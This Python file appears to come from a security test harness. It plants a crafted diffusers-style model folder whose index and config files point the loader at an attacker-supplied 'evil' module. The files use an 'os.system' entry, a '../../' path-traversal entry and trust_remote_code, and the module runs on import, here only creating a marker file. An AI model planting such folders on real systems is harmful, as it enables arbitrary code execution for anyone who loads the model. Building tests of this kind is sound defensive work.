"""Save a pipeline whose index names a module of one's own, for `from_pretrained` to import."""

import contextlib
import json
import tempfile
from pathlib import Path

CLASS = "pickles"
AIM = "make_pipeline"
HOME = Path(tempfile.gettempdir())
CODE = 'open("/tmp/kata-attack-pipeline", "w").close()\nclass Evil:\n    pass\n'
INDEX = {
    "_class_name": ["evil", "Evil"],
    "_diffusers_version": "0.0",
    "custom_pipeline": "evil",
    "unet": ["evil", "Evil"],
    "scheduler": ["os", "system"],
    "tokenizer": ["../../evil", "Evil"],
}
CONFIG = {
    "_class_name": "Evil",
    "auto_map": {"AutoModel": "evil.Evil", "AutoTokenizer": ["evil.Evil", None]},
    "trust_remote_code": True,
    "_name_or_path": "evil/evil--evil.Evil",
}
FILES = {
    "model_index.json": json.dumps(INDEX),
    "evil.py": CODE,
    "pipeline.py": CODE,
    "unet/evil.py": CODE,
    "unet/config.json": json.dumps(CONFIG),
    "scheduler/scheduler_config.json": json.dumps(CONFIG),
    "tokenizer/tokenizer_config.json": json.dumps(CONFIG),
}


def attack(name, /, *args, **kwargs):
    paths = [Path(value) for value in args if isinstance(value, (str, Path))]
    paths = [path for path in paths if path.is_absolute()]
    for folder in (*paths, HOME, HOME / "saved"):
        for file, text in FILES.items():
            with contextlib.suppress(OSError):
                path = folder / file
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(text)
    return None
